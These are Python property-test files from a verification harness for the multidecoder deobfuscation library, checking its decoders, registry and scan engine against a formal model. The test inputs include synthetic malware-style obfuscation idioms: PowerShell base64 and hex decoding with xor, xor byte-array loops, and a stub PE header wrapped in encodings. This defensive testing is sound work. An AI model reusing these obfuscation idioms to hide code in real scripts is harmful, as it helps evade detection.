"""C18 - registry contents and configuration: Model/Registry.v (get_analyzers over the translator's module table, get_keywords over
a directory value) vs multidecoder.registry on all singleton / pair / random include-exclude selections and generated keyword directories."""
from __future__ import annotations

import itertools

from registry_common import expected_searchers, impl_get_keywords, rand_dtree

ID = "C18"
RULE = ("get_analyzers: include/exclude in {None, [], singletons, all pairs, random subsets, names that are not modules, a module both included and excluded}; "
        "get_keywords: random directory trees (empty files, blank lines, LF/CRLF/CR, duplicate and case-variant words, nested directories) materialised in a scratch directory. "
        "non-trivial = selection that keeps some but not all decoders / directory with at least two non-empty keyword files")
TRUSTED_BASE = ["pkgutil.iter_modules / inspect.getmembers / os.walk enumeration are oracles (their sorted order is reproduced by the translator and by the model's sorting)"]
ASSUMPTIONS = ["file names within one directory are distinct (file system invariant)"]


def _mods():
    import pkgutil
    import multidecoder.decoders
    return [m.name for m in pkgutil.iter_modules(multidecoder.decoders.__path__)]


def _impl_analyzers(arg):
    from multidecoder.registry import get_analyzers
    inc, exc = arg
    return [f.__name__ for f in get_analyzers(include=inc or None, exclude=exc or None)]


def analyzers_oracle(arg, got):
    """exactly the marked functions of the modules that are included (or all) and not excluded"""
    import importlib
    import inspect
    inc, exc = arg
    want = []
    for m in _mods():
        if inc and m not in inc:
            continue
        if m in exc:
            continue
        mod = importlib.import_module("multidecoder.decoders." + m)
        src = inspect.getsource(mod)
        import ast
        for n in ast.parse(src).body:
            if isinstance(n, ast.FunctionDef) and any(getattr(d, "id", None) == "decoder" for d in n.decorator_list):
                want.append(n.name)
    if sorted(got) != sorted(want):
        return f"include={inc} exclude={exc}: registry has {sorted(got)}, marked functions of the selected modules are {sorted(want)}"
    return None


def run(ctx):
    mods = _mods()
    sel = [[[], []]]
    sel += [[[m], []] for m in mods] + [[[], [m]] for m in mods]
    sel += [[[m], [m]] for m in mods[:4]]
    sel += [[["nosuchmodule"], []], [[], ["nosuchmodule"]], [["base64", "nosuchmodule"], ["hex"]]]
    for a, b in itertools.islice(itertools.combinations(mods, 2), ctx.budget(40, 200)):
        sel.append([[a, b], []])
        sel.append([[a], [b]])
        sel.append([[], [a, b]])
    for _ in range(ctx.budget(200, 2000)):
        inc = [m for m in mods if ctx.rng.random() < 0.3]
        exc = [m for m in mods if ctx.rng.random() < 0.3]
        sel.append([inc, exc])
    nd = 30
    ctx.compare("get_analyzers", sel, _impl_analyzers, nontrivial=lambda a, o: 0 < len(o) < nd, oracle=analyzers_oracle)
    trees = [rand_dtree(ctx.rng) for _ in range(ctx.budget(150, 1500))]

    def kw_oracle(t, got):
        have = sorted(((n, frozenset(ws)) for n, ws in got), key=lambda x: (x[0], sorted(x[1])))
        want = expected_searchers(t)
        if have != want:
            return f"keyword searchers {have} differ from one-per-non-empty-file {want}"
        if any(len(set(ws)) != len(ws) for _, ws in got):
            return "a searcher lists a keyword twice"
        return None
    ctx.compare("get_keywords", trees, impl_get_keywords, nontrivial=lambda a, o: len(o) >= 2, oracle=kw_oracle)
    # ... and the searchers that were built must SEARCH FOR the words of their own file (same-named files in different sub-directories, equal word counts included)
    import tempfile as _tf, shutil as _sh
    from registry_common import materialise
    import multidecoder.registry as _reg
    same = [[["tool.name", b"alphatool\n"]], [["win_d", [[["tool.name", b"bravotool\n"]], []]], ["lin_d", [[["tool.name", b"charlietool\n"], ["misc", b"delta\necho1\n"]], []]]]]
    same2 = [[["misc", b"foxtrot\ngolf\n"], ["tool.name", b"hoteltool\n"]], []]
    for t in [same, same2, same] + trees[: ctx.budget(40, 400)]:
        tmp = _tf.mkdtemp(prefix="verif_c18_")
        try:
            materialise(t, tmp)
            searchers = _reg.get_keywords(tmp)
            ctx.evals += 1
            for f in searchers:
                label, words = f.args[0], [w for w in f.args[1]]
                text = b" ; ".join(words) + b" ; zz"
                got = sorted((bytes(h.value), h.type) for h in f(text))
                # every listed word occurs delimited in the text, so each must be reported (at least once) with the file's name as type, and nothing else may be
                want = sorted({(w, label) for w in words})
                if sorted(set(got)) != want:
                    ctx.violation("get_keywords", [t], f"searcher built for keyword file {label!r} with words {words[:4]} reports {sorted(set(got))[:6]} on a text listing exactly its words")
                    break
        finally:
            _sh.rmtree(tmp, ignore_errors=True)
    lines = [bytes(ctx.rng.choice(b"ab\r\n\n \r") for _ in range(ctx.rng.randint(0, 12))) for _ in range(ctx.budget(500, 5000))]
    ctx.compare("splitlines", lines, lambda b: b.splitlines())
    # a custom keyword directory replaces the shipped keywords and nothing else
    from multidecoder.registry import build_registry, get_analyzers
    import tempfile, shutil, os
    tmp = tempfile.mkdtemp(prefix="verif_c18_")
    try:
        open(os.path.join(tmp, "only"), "wb").write(b"word\n")
        reg = build_registry(tmp)
        ctx.evals += 1
        names = [getattr(f, "__name__", None) or ("kw:" + f.args[0]) for f in reg]
        want = ["kw:only"] + [f.__name__ for f in get_analyzers()]
        if names != want:
            ctx.violation("build_registry", ["custom-dir"], f"custom keyword directory registry {names} != {want}")
        default = build_registry()
        ctx.evals += 1
        if [f.__name__ for f in default if hasattr(f, "__name__")] != [f.__name__ for f in get_analyzers()]:
            ctx.violation("build_registry", ["default"], "default registry does not contain every marked decoder after the keyword searchers")
        # history: builds with different configurations in one process
        seq = [((), ()), (("base64",), ()), ((), tuple(_mods())), (("shell", "hex"), ("hex",)), ((), ())]
        for inc, exc in seq + seq:
            reg = build_registry(tmp, include=list(inc) or None, exclude=list(exc) or None)
            ctx.evals += 1
            names = [getattr(f, "__name__", None) or ("kw:" + f.args[0]) for f in reg]
            want = ["kw:only"] + [f.__name__ for f in get_analyzers(include=list(inc) or None, exclude=list(exc) or None)]
            m = analyzers_oracle([list(inc), list(exc)], [n for n in names if not n.startswith("kw:")])
            if names != want or m:
                ctx.violation("build_registry", [list(inc), list(exc)], m or f"registry built after other builds in the same process: {names[:6]}... != {want[:6]}...")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    # build_registry over generated custom directories (always including the ones that yield NO searcher: empty directory, only empty / blank-line files,
    # nested ones): keyword part = one searcher per non-empty file of THAT directory, decoder part = the selected marked functions; nothing of the shipped keywords
    from registry_common import materialise
    zero = [[[], []], [[["api", b""], ["key", b"\n\r\n\n"]], []], [[["api", b"\r\n"]], [["sub_d", [[["zz", b""], ["net.proto", b"\n"]], []]]]], [[], [["e_d", [[], []]]]]]
    some = [t for t in trees if not expected_searchers(t)][:10] + trees[: ctx.budget(25, 200)]
    for t in zero + some:
        tmp = tempfile.mkdtemp(prefix="verif_c18_")
        try:
            materialise(t, tmp)
            inc = ctx.rng.choice([None, ["chr"], ["base64", "hex"]])
            reg = build_registry(tmp, include=inc)
            ctx.evals += 1
            kws = sorted(((f.args[0], frozenset(f.args[1])) for f in reg if not hasattr(f, "__name__")), key=lambda x: (x[0], sorted(x[1])))
            decs = [f.__name__ for f in reg if hasattr(f, "__name__")]
            if kws != expected_searchers(t):
                ctx.violation("build_registry", [t, inc], f"custom keyword directory: {len(kws)} keyword searchers {[k[0] for k in kws][:8]}, its non-empty files give {[k[0] for k in expected_searchers(t)]}")
            elif decs != [f.__name__ for f in get_analyzers(include=inc)]:
                ctx.violation("build_registry", [t, inc], f"custom keyword directory changed the decoder part: {decs[:5]}")
            else:
                ctx.count("build_registry_dir:%s" % ("none" if not kws else "some"))
        finally:
            shutil.rmtree(tmp, ignore_errors=True)
    # include / exclude are Iterable[str]: generators, map / iter objects must select exactly what the same names in a list select
    for inc, exc in [(["hex"], []), ([], ["network", "path"]), (["base64", "shell"], ["shell"]), (["chr"], [])]:
        want = [f.__name__ for f in get_analyzers(include=inc or None, exclude=exc or None)]
        for kind, conv in (("generator", lambda l: (x for x in l)), ("iter", iter), ("map", lambda l: map(str, l)), ("tuple", tuple), ("frozenset", frozenset)):
            reg = build_registry(tempfile.gettempdir() + "/verif_c18_none", include=conv(inc) if inc else None, exclude=conv(exc) if exc else None)
            ctx.evals += 1
            got = [f.__name__ for f in reg if hasattr(f, "__name__")]
            if got != want:
                ctx.violation("build_registry", [inc, exc, kind], f"include={inc} exclude={exc} passed as a {kind}: {len(got)} decoders selected, the same names in a list select {len(want)}")
    missing = os.path.join(tempfile.gettempdir(), "verif_c18_does_not_exist")
    reg = build_registry(missing, include=["chr"])
    ctx.evals += 1
    if [getattr(f, "__name__", "kw") for f in reg] != ["find_chr"]:
        ctx.violation("build_registry", ["missing-dir"], "a keyword directory that does not exist yields keyword searchers")


def search(ctx):
    ctx.tier = "thorough"
    run(ctx)


def replay(ctx, data):
    v = data.get("violation")
    if not v:
        print("replay file names no concrete input:", data.get("broken"))
        return 1
    print(v["site"], v["input"], v["message"])
    if v["site"] == "get_analyzers":
        got = _impl_analyzers(v["input"])
        m = analyzers_oracle(v["input"], got)
        print("implementation:", got, "oracle:", m or "holds")
        return 1 if m else 0
    return 1
