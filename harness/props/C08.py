"""C08 - engine-level property: correspondence of Multidecoder.scan_node with Model/Engine.v on synthetic registries
(exhaustive small hit tables + biased random ones) and the implementation-side oracle written from the property text."""
from engine_common import run_engine, replay_engine

ID = "C08"
ORACLES = ["C08"]
RULE = ("registries are tables value -> hits (kinds: context, case-changed context, decoding, decoding into a value that is searched again, "
        "with decoder-supplied children, restating the parent, empty value; a separate malformed stream with out-of-bounds / crossed spans); "
        "exhaustive over all sequences of <= 2 (quick) / <= 3 (thorough) hits x 4 kinds x all spans of a 4-byte text, then random tables of "
        "up to 8 hits per text on up to 4 texts biased towards nesting / ties / straddling; depth in {-1,0,1,2,3,4,12}; plus the SHIPPED registry on encoder stacks (height 1-3, also the same blob twice) with every decoded node re-scanned on its own by a fresh scanner. "
        "non-trivial = the resulting tree has at least two levels below the scanned node")
TRUSTED_BASE = ["synthetic-registry harness (harness/engine_common.py)"]
ASSUMPTIONS = ["the registry is a pure function value -> list of hits (Section variable search); theorems about trees built by the scan "
               "assume wf_search: every reported hit is non-empty and in bounds (the C06 precondition)"]


def rescan_shipped(ctx):
    """the property on the SHIPPED registry: every decoded node without decoder-supplied sub-structure has exactly the children that scanning a fresh node of the same type
    and value with the remaining depth gives.  Trees are snapshotted right after each scan (hit objects must not be shared between scans)."""
    import corpus_gen
    import stacks
    from common import node_val
    from multidecoder.multidecoder import Multidecoder
    from multidecoder.node import Node
    from scan_common import RecordingRegistry
    reg = RecordingRegistry()
    md_rec = Multidecoder(decoders=reg.decoders)      # only to learn which reported hits carried decoder-supplied sub-structure
    md = Multidecoder()                               # the scanner under test: the shipped registry exactly as a user gets it
    md2 = Multidecoder()
    inputs = []
    for p in stacks.PAYLOADS[:6]:
        for l in stacks.LAYERS:
            b = stacks.build(p, [l], b"first: ", b" end")
            if b is not None and len(b[0]) < 3000:
                inputs.append(b[0])
                if len(inputs) % 7 == 0:
                    inputs.append(b[0] + b" again: " + b[2])        # the same blob twice in one document
    # every text-only outer layer around the layers whose OUTPUT is binary / contains NUL bytes (what is found inside a blob must not depend on what the
    # enclosing document looks like), and a PE file inside base64 / hex
    import struct
    pe = bytearray(0x200)
    pe[0:2] = b"MZ"
    struct.pack_into("<I", pe, 0x3C, 0x80)
    pe[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", pe, 0x84, 0x14C, 1, 0, 0, 0, 0xE0, 0x102)
    struct.pack_into("<H", pe, 0x98, 0x10B)
    pe[0x178:0x180] = b".text\0\0\0"
    struct.pack_into("<IIII", pe, 0x180, 0x200, 0x1000, 0x200, 0x200)
    pe = bytes(pe) + b"\x90" * 0x200
    for outer in ("b64", "atob", "hex", "FromHexString", "xml", "unescape", "FromBase64String"):
        for innername in ("utf16", "b64", "xmlhexX"):
            b = stacks.build(stacks.PAYLOADS[ctx.rng.randrange(3)], [stacks.BY_NAME[outer], stacks.BY_NAME[innername]], b"doc: ", b" end")
            if b is not None and len(b[0]) < 4000:
                inputs.append(b[0])
        b = stacks.build(b"zz " + pe + b" zz", [stacks.BY_NAME[outer]], b"doc: ", b" end")
        if b is not None and len(b[0]) < 9000:
            inputs.append(b[0])
    pinned = len(inputs)
    for _ in range(ctx.budget(60, 1200)):
        h = ctx.rng.randint(1, 3)
        inner = ctx.rng.choice(stacks.PAYLOADS[:6] + [corpus_gen.plain_nested(ctx.rng) for _ in range(3)])
        b = stacks.build(inner, [ctx.rng.choice(stacks.LAYERS) for _ in range(h)], ctx.rng.choice(stacks.NEUTRAL_PRE), ctx.rng.choice(stacks.NEUTRAL_SUF))
        if b is not None and len(b[0]) < 4000:
            inputs.append(b[0])
    inputs += [corpus_gen.xor_document(ctx.rng) for _ in range(ctx.budget(40, 600))]      # several statements, xor keys literal / by variable / absent at different depths
    rest = inputs[pinned:]
    ctx.rng.shuffle(rest)
    inputs = inputs[:pinned] + rest[: ctx.budget(90, 2500)]
    for data in inputs:
        depth = ctx.rng.choice([10, 10, 3, 2])
        del reg.calls[:]
        tree = node_val(md.scan(data, depth))
        md_rec.scan(data, depth)
        ctx.evals += 1
        supplied = {(h[0], h[1], h[2]) for _n, _v, hits in reg.calls for h in hits if h[5]}
        bad = []

        def check(k, r):
            alone = node_val(md2.scan_node(Node(k[0], k[1], k[2], 0, 0), r))[5]
            if k[5] != alone and not bad:
                bad.append(f"decoded node {k[0]!r}/{k[2]!r} value {k[1][:50]!r}: its children differ from a scan of the same type and value on its own with remaining depth {r}: "
                           f"{[(c[0], c[1][:20], c[3], c[4]) for c in k[5]][:4]} vs {[(c[0], c[1][:20], c[3], c[4]) for c in alone][:4]}")
            elif k[5]:
                ctx.nontrivial.add(("rescan", k[0], k[1][:40]))

        def walk(n, r):          # n's value was searched by a scan_node call with depth r
            for k in n[5]:
                if k[5] and (k[0], k[1], k[2]) in supplied:
                    for c in k[5]:
                        scanned(c, r - 2)
                elif k[1].lower() != n[1][k[3]:k[4]].lower():
                    check(k, r - 1)
                    walk(k, r - 1)
                else:
                    walk(k, r)

        def scanned(c, r):       # c was handed to scan_node with depth r by the children loop
            if c[5] and (c[0], c[1], c[2]) in supplied:
                for cc in c[5]:
                    scanned(cc, r - 1)
            else:
                walk(c, r)
        walk(tree, depth)
        if bad:
            ctx.violation("rescan_shipped", [depth, data], bad[0])


def run(ctx):
    run_engine(ctx, ORACLES)
    rescan_shipped(ctx)


def search(ctx):
    run_engine(ctx, ORACLES, quick_random=60000, thorough_random=200000, exhaustive_quick=3)


def replay(ctx, data):
    return replay_engine(ctx, data, ORACLES)
