"""C13 - base64 / hex / xor decoders vs Model/Dec/B64Hex.v; node oracle c13_node on every encoding.* / decoded.* / cipher.* node;
converse direction: acceptable payloads are decoded as one unit covering exactly the encoded text."""
from __future__ import annotations

import base64
import re as stdre

import corpus_gen
import node_oracles as NO
import stacks
from common import make_node
from decoder_common import run_decoder_probe

ID = "C13"
DECODERS = ["find_atob", "find_base64", "find_Base64Decode", "find_FromBase64String", "find_hex", "find_FromHexString", "find_powershell_bytes"]
RULE = ("per decoder: words sampled from its current regex + shared corpus + dedicated stream: payloads of every length mod 3 and every padding form, the boundaries of each acceptance rule "
        "(21/22/24 characters, 6/7 distinct characters, pure hex, pure letters, slash ratio 3/32 +- 1), line breaks LF / CRLF / CR and their HTML escapes at several widths, upper / lower / digit-led hex runs "
        "of 9/10/11 pairs, xor keys 0..999 next to the call forms, byte arrays of 500/501/502 items incl. items above 255. non-trivial = at least one node reported")
TRUSTED_BASE = ["model of the regex engine (Regex/Backtrack.v)", "CPython binascii.a2b_base64 / unhexlify models (Model/Codec) pinned by the probes",
                "xortool (key guessing, float scoring) is an oracle of the model: its answers are recorded from the implementation run"]
ASSUMPTIONS = ["known finding F11: a run of >= 10 digit-only pairs followed by upper-case hex pairs is split by HEX_RE's alternation order (reported as KNOWN-FINDING)"]
KNOWN_MATCHERS = {"f11_hex_mixed_digits_then_upper": lambda v: v.get("class") == "F11"}


def acceptable(b64):
    return (len(b64) % 4 == 0 and len(b64) >= 24 and len(set(b64)) > 6 and not stdre.fullmatch(rb"(?i)[a-f0-9]+", b64)
            and not stdre.fullmatch(rb"(?i)[a-z]+", b64) and b64.count(b"/") * 32 <= 3 * len(b64))


def dedicated(rng, thorough):
    out = []
    n = 300 if thorough else 50
    for _ in range(n):
        ln = rng.choice([15, 16, 17, 18, 19, 20, 30, 31, 32, 45, 64])
        p = bytes(rng.randrange(256) for _ in range(ln)) if rng.random() < 0.5 else bytes(rng.choice(b"abcdefgh tuvwxyz0123456789") for _ in range(ln))
        b64 = base64.b64encode(p)
        w = rng.choice([0, 0, 16, 20, 24])
        sep = rng.choice([b"\n", b"\r\n", b"\r", b"&#13;&#10;", b"&#xD;&#xA;", b"&#10;"])
        text = sep.join(b64[i:i + w] for i in range(0, len(b64), w)) if w else b64
        out.append(rng.choice(stacks.NEUTRAL_PRE) + text + rng.choice(stacks.NEUTRAL_SUF))
        q = rng.choice([b"'", b'"'])
        out.append(rng.choice([b"atob(", b"Base64Decode(", b"FromBase64String(", b"[System.Convert]::FromBase64String("]) + q + b64 + q + b")" + rng.choice([b"", b" -bxor %d" % rng.randrange(1000), b" -xor 35"]))
    out += [b"AAAAAAAAAAAAAAAAAAAAAAAA", b"ABCDEFGHIJKLMNOPQRSTUVWX", b"0123456789abcdef0123456789abcdef", b"abcdefghijklmnopqrstuvwx", b"a/b/c/d/e/f/g/h/i/j/k/l/m/n/o/p/", b"QUJDREVGR0hJSktMTU5PUFFS", b"QUJDREVGR0hJSktMTU5PUA==",
            b"QUJDREVGR0hJSktMTU5P", b"QUJDREVGR0hJSktMTU5PUFE="]
    for k in (9, 10, 11, 16):
        h = bytes(rng.randrange(256) for _ in range(k)).hex().encode()
        out += [b" " + h + b" ", b" " + h.upper() + b" ", b"FromHexString('" + h + b"')", b"[System.Convert]::FromHexString('" + h.upper() + b"') -bxor 65"]
    out += [b"12345678901234567890ABCDEFABCDEFAB", b"1234567890123456789012", b"abcdefabcdefabcdefabcdef1", b"ABCDEFabcdefABCDEFabcdef"]
    for key in (1, 35, 255):
        pl = bytes([key, key]) + b"MZ\x90\x00payload" + bytes([key])
        out.append(b"FromBase64String('" + base64.b64encode(pl) + b"') -bxor %d" % key)
        out.append(b"FromHexString('" + pl.hex().encode() + b"') -xor %d" % key)
        out.append(b",".join(b"%d" % c for c in (pl * 40)[:505]) + b" -bxor %d" % key)
    for cnt in (500, 501, 502):
        items = [rng.choice([b"0x%02x" % rng.randrange(256), b"%d" % rng.randrange(256)]) for _ in range(cnt)]
        out.append(b"$b = " + b",".join(items) + b" ;")
    # every spelling of an element the pattern admits: zero-padded decimals, 0X / upper-case hex, blanks after the comma - all values in range
    for fmt in ([b"%03d"], [b"%02d", b"%d"], [b"0X%02X", b"%d"], [b"0x%02x", b"%03d", b"%d"]):
        vals = [rng.randrange(256) for _ in range(505)]
        out.append(b"$a = " + rng.choice([b",", b", ", b",\n  "]).join(rng.choice(fmt) % v for v in vals) + b" ;")
    # multi-byte xor with the key held in a variable (xortool guesses it): lengths that are NOT a multiple of the key length
    for key, ln in ((b"K3y", 803), (b"s3cr3t!", 803), (b"\x10\x20\x30\x40\x55", 1001), (b"ab", 601)):
        plain = (b"The quick brown fox jumps over the lazy dog and runs away. " * 40)[:ln]
        ct = bytes(c ^ key[i % len(key)] for i, c in enumerate(plain))
        out.append(b"$d = " + b",".join(b"%d" % c for c in ct) + b"; for($i=0;$i -lt $d.Length;$i++){$d[$i] = $d[$i] -bxor $k[$i % $k.Length]}")
    items = [b"%d" % rng.randrange(300) for _ in range(520)]
    out.append(b",".join(items))
    out.append(b", ".join(b"0x%02X" % (i % 256) for i in range(510)) + b" -bxor 7")
    out.append(b",".join(b"%d" % (i % 250) for i in range(510)) + b" -bxor")
    return out


def oracle(dn, data, out):
    if out[0] != "ok":
        return f"{dn} raised {out[1]} on {data[:80]!r}"
    parent = make_node(["", data, "", 0, len(data), []])

    def rec(n, p):
        for m in NO.c13_node(n, p):
            return m
        for c in n.children:
            m = rec(c, n)
            if m:
                return m
        return None
    for h in out[1]:
        m = rec(make_node(h), parent)
        if m:
            return m
    return None


def converse(ctx, n):
    """acceptable base64 / >= 10 same-case hex pairs / the call forms are decoded as ONE unit covering exactly the encoded text"""
    from multidecoder.multidecoder import Multidecoder
    from common import node_val
    md = Multidecoder()
    for _ in range(n):
        kind = ctx.rng.choice(["b64", "hex", "HEX", "atob", "Base64Decode", "FromBase64String", "FromHexString"])
        ln = ctx.rng.randint(16, 48)
        p = bytes(ctx.rng.choice(b"abcdefgh tuvwxyz0123456789.:/") for _ in range(ln))
        if ctx.rng.random() < 0.2:
            # hex text that STARTS with >= 10 digit-only pairs (zero-padded words, time stamps): either alternative of the pattern can start matching it
            p = bytes(ctx.rng.choice(b"0123456789 \x00\x10\x99") for _ in range(ctx.rng.randint(10, 16))) + p
        layer = stacks.BY_NAME[kind]
        if not layer.dom(p):
            continue
        if kind == "b64" and not acceptable(base64.b64encode(p)):
            continue
        blob = layer.enc(p)
        pre, suf = ctx.rng.choice(stacks.NEUTRAL_PRE), ctx.rng.choice(stacks.NEUTRAL_SUF)
        data = pre + blob + suf
        tree = node_val(md.scan(data, 1))
        ctx.evals += 1
        ctx.nontrivial.add(("converse", data))
        hit = [k for k in tree[5] if k[2] == layer.obf and k[0] == layer.ty and k[3] == len(pre) and k[4] == len(pre) + len(blob) and k[1] == p]
        if not hit:
            cls = None
            if kind == "HEX" and stdre.match(rb"(?:[0-9]{2}){10}", blob):
                cls = "F11"
            ctx.violation("converse", [data], f"{kind} payload not decoded as one unit covering exactly the encoded text [{len(pre)},{len(pre) + len(blob)})", cls=cls)


def run(ctx):
    run_decoder_probe(ctx, DECODERS, extra_inputs=dedicated(ctx.rng, ctx.thorough), oracle=oracle, n_regex=40, n_corpus=80)
    from multidecoder.multidecoder import Multidecoder
    md = Multidecoder()
    for data in corpus_gen.gen_inputs(ctx.rng, ctx.budget(300, 5000)) + dedicated(ctx.rng, False)[::3]:
        if len(data) > 6000:
            continue
        try:
            tree = md.scan(data)
        except Exception:  # noqa: BLE001  (C01)
            continue
        ctx.evals += 1
        for m in NO.walk(tree, NO.c13_node):
            ctx.violation("whole_scan", [data], m)
    converse(ctx, ctx.budget(400, 6000))
    # the known finding, replayed on every run
    from multidecoder.decoders.hex import find_hex
    hits = find_hex(bytes.fromhex("3132333435363738393031323334353637383930313241424344454641424344"))
    ctx.evals += 1
    if not (len(hits) == 1 and hits[0].start == 0 and hits[0].end == 32):
        ctx.violation("converse", [bytes.fromhex("3132333435363738393031323334353637383930313241424344454641424344")],
                      "upper-case hex run starting with >= 10 digit pairs is split (HEX_RE alternation order)", cls="F11")


def scan_oracle(ctx, data, depth, tree, out):
    return NO.walk(tree, NO.c13_node) if tree is not None else []


def search(ctx):
    ctx.tier = "thorough"
    run(ctx)


def replay(ctx, data):
    v = data.get("violation")
    if not v:
        print("replay file names no concrete input:", data.get("broken"))
        return 1
    print(v["site"], v["message"], v["input"])
    return 1
