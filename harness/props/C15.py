"""C15 - concatenation / reversal / replacement decoders vs Model/Dec/StrOps.v, and the node oracle c15_node (literals in the property's domain:
no quote characters, not a bare joining operator) on decoder outputs and whole scans."""
from __future__ import annotations

import corpus_gen
import node_oracles as NO
from common import make_node
from decoder_common import run_decoder_probe

ID = "C15"
DECODERS = ["find_concat", "find_reverse", "find_strreverse", "find_replace", "find_powershell_replace", "find_vba_replace", "find_js_regex_replace", "find_createobject"]
RULE = ("per decoder: words sampled from its current regex (mutated, embedded) + the shared corpus + a dedicated stream: literal contents over a printable alphabet without quote characters "
        "(empty, one byte, overlapping occurrences such as aaa/aa, pattern = replacement, replacement containing the pattern), single and double quoting, every separator spelling (+, &, &amp;, white-space, "
        "_ line continuation), 2-6 part chains, regex flags g/i/m; literals outside the domain (quotes inside, bare operators) only require model = implementation. non-trivial = at least one node reported")
TRUSTED_BASE = ["model of the regex engine (Regex/Backtrack.v)", "bytes.replace model (XmlChr.replace) pinned by the probes"]
ASSUMPTIONS = ["matcher fuel as for C14"]


def lit(rng, q=None):
    q = q or rng.choice([b'"', b"'"])
    body = bytes(rng.choice(b"abcXYZ 019.-/:=#~") for _ in range(rng.choice([0, 1, 1, 2, 3, 5, 8])))
    return q + body + q, body


def dedicated(rng, thorough):
    out = []
    n = 400 if thorough else 60
    seps = [b"+", b" + ", b"&", b" & ", b"&amp;", b" &amp; ", b"\t+\n", b" _\n+ ", b"+_", b"  &  "]
    for _ in range(n):
        k = rng.randint(2, 6)
        parts = [lit(rng)[0] for _ in range(k)]
        s = parts[0]
        for p in parts[1:]:
            s += rng.choice(seps) + p
        out.append(rng.choice([b"", b"x = ", b"("]) + s + rng.choice([b"", b";", b")"]))
    for _ in range(n):
        l, _ = lit(rng)
        out.append(rng.choice([b"reverse(", b"Reversed( ", b"StrReverse(", b"strreverse(\n"]) + l + rng.choice([b")", b" )"]))
    pairs = [(b"aaa", b"aa", b"b"), (b"aXbXc", b"X", b"--"), (b"abc", b"b", b"b"), (b"abab", b"ab", b"abab"), (b"hello", b"l", b""), (b"", b"a", b"b"), (b"xyz", b"q", b"r"), (b"a.b.c", b".", b"!")]
    for _ in range(n):
        x, a, b = rng.choice(pairs) if rng.random() < 0.5 else (lit(rng)[1], lit(rng)[1] or b"a", lit(rng)[1])
        q = rng.choice([b'"', b"'"])
        Q = lambda s: q + s + q
        out.append(Q(x) + b".replace(" + Q(a) + rng.choice([b",", b", ", b" ,\n"]) + Q(b) + b")")
        out.append(b"Replace(" + Q(x) + b", " + Q(a) + b"," + Q(b) + b")")
        out.append(Q(x) + rng.choice([b" -replace ", b"-replace", b" -Replace "]) + Q(a) + b"," + Q(b))
        if a and not any(c in a for c in b"/[](){}\\.+*?^$,"):
            out.append(Q(x) + b".replace(/" + a + b"/" + rng.choice([b"", b"g", b"gi", b"m", b"gim"]) + b", " + Q(b) + b")")
    out += [b'"+" + "+"', b'"a\' + \'b" + "c"', b"'it''s' + 'x'", b'reverse("a""b")', b'"abc".replace("", "-")', b"CreateObject(\"a)b\") + x(1)", b"createobject(((", b"CreateObject(x(y)z)w)"]
    return out


def oracle(dn, data, out):
    if out[0] != "ok":
        return f"{dn} raised {out[1]} on {data[:80]!r}"
    parent = make_node(["", data, "", 0, len(data), []])
    for h in out[1]:
        for m in NO.c15_node(make_node(h), parent):
            return m
    return None


def run(ctx):
    run_decoder_probe(ctx, DECODERS, extra_inputs=dedicated(ctx.rng, ctx.thorough), oracle=oracle, n_regex=40, n_corpus=80)
    from multidecoder.multidecoder import Multidecoder
    md = Multidecoder()
    for data in corpus_gen.gen_inputs(ctx.rng, ctx.budget(300, 5000)) + dedicated(ctx.rng, False)[::4]:
        try:
            tree = md.scan(data)
        except Exception:  # noqa: BLE001  (C01)
            continue
        ctx.evals += 1
        for m in NO.walk(tree, NO.c15_node):
            ctx.violation("whole_scan", [data], m)


def scan_oracle(ctx, data, depth, tree, out):
    return NO.walk(tree, NO.c15_node) if tree is not None else []


def search(ctx):
    ctx.tier = "thorough"
    run(ctx)


def replay(ctx, data):
    v = data.get("violation")
    if not v:
        print("replay file names no concrete input:", data.get("broken"))
        return 1
    print(v["site"], v["message"])
    a = v["input"]
    if v["site"] == "decoder":
        from decoder_common import registry_functions
        from common import impl_call, node_val
        out = impl_call(lambda: [node_val(h) for h in registry_functions()[a[0]](a[1])])
        print("implementation:", out, "\nmodel:", ctx.runner.run([("decoder", a)])[0])
        m = oracle(a[0], a[1], out)
        print("oracle:", m or "holds")
        return 1 if m else 0
    return 1
