"""C17 - keyword search.  Correspondence probes (model vs keyword.py) and the property oracle."""
from __future__ import annotations

import itertools
import re as stdre

from common import impl_call, node_val

ID = "C17"
RULE = ("find_keywords: exhaustive over data in {a,A,b,1,-,space}^<=L x fixed keyword sets (prefixes of one another, "
        "punctuation, digits only, self-overlapping), plus random data over a wider alphabet incl. bytes >= 0x80; "
        "is_mixed_case: random raw/keyword pairs incl. non-ASCII and unequal-lowered pairs; latin1: all 256 code points. "
        "non-trivial = the implementation returned at least one hit (find_keywords) / pair with equal lowered forms (is_mixed_case)")
TRUSTED_BASE = ["model of bytes.lower/find/isalnum/isupper/islower and chr(i).isupper/islower for i<256 (Lib/Base.v, Lib/Latin1.v), pinned by the probes"]
ASSUMPTIONS = ["keyword sets are modelled as lists: the order of hits across keywords follows the iteration order given to find_keywords "
               "(set iteration order is the subject of C09, not C17)"]

KWSETS = [
    [b"ab"], [b"Ab", b"aB"], [b"a", b"ab", b"aba"], [b"a-a"], [b"1", b"11"], [b" a"], [b"-"], [b"ab-", b"b-a"],
    [b"aa", b"a"], [b"A1", b"1a"], [b"a b"], [b""], [b"b", b"bb", b"bbb"],
]


def oracle_find_keywords(arg, out):
    """The property, stated independently of keyword.py (stdlib `re` does the literal search)."""
    label, kws, data = arg
    if out[0] != "ok":
        return f"find_keywords raised {out[1]}"
    expected = []
    for kw in kws:
        if not kw:
            continue
        for m in stdre.finditer(stdre.escape(kw), data, stdre.I):
            s, e = m.span()
            before = data[s - 1:s] if s > 0 else b""
            after = data[e:e + 1]
            if before and stdre.fullmatch(rb"[A-Za-z0-9]", before):
                continue
            if after and stdre.fullmatch(rb"[A-Za-z0-9]", after):
                continue
            raw = data[s:e]
            mixed = (not raw.isupper()) and (not raw.islower()) and raw != kw
            expected.append([label, kw, "MixedCase" if mixed else "", s, e, []])
    if out[1] != expected:
        return f"hits differ from the delimited leftmost non-overlapping occurrences: got {out[1]!r} expected {expected!r}"
    return None


def _impl_find_keywords(arg):
    from multidecoder.keyword import find_keywords
    label, kws, data = arg
    return impl_call(lambda: [node_val(n) for n in find_keywords(label, list(kws), data)])


def _impl_find_all(arg):
    from multidecoder.keyword import find_all
    return impl_call(lambda: find_all(arg[0], arg[1]))


def _impl_mixed(arg):
    from multidecoder.keyword import is_mixed_case
    return int(is_mixed_case(arg[0], arg[1]))


def gen_exhaustive(maxlen):
